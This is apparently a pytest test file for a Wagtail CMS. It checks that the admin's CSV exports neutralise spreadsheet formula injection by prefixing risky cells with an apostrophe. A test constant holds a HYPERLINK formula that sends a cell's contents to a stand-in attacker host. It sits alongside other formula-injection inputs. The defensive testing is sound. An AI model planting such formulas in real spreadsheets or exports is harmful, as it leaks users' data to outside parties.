"""Every CSV the admin exports opens in a spreadsheet as text: a cell an editor or member
could have filled with a formula never runs."""

import csv
import io

from django.urls import reverse

from wagtail.log_actions import log

import pytest

from cms.spreadsheets import spreadsheet_text

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Open")'


def csv_rows(response) -> list[dict]:
    body = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(body)))


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (FORMULA, "'" + FORMULA),
        ("+44 20 7946 0000", "'+44 20 7946 0000"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("Round 1: care plans", "Round 1: care plans"),
        (None, ""),
    ],
)
def test_a_cell_that_would_run_starts_with_an_apostrophe(value, written):
    assert spreadsheet_text(value) == written


def test_the_site_history_csv_shows_a_formula_title_as_text(client, admin_user, home_page):
    home_page.title = FORMULA
    home_page.save_revision().publish()
    log(home_page, "wagtail.edit", user=admin_user)
    client.force_login(admin_user)

    response = client.get(reverse("wagtailadmin_reports:site_history") + "?export=csv")

    titles = [row["Name"] for row in csv_rows(response)]
    assert "'" + FORMULA in titles
    assert FORMULA not in titles
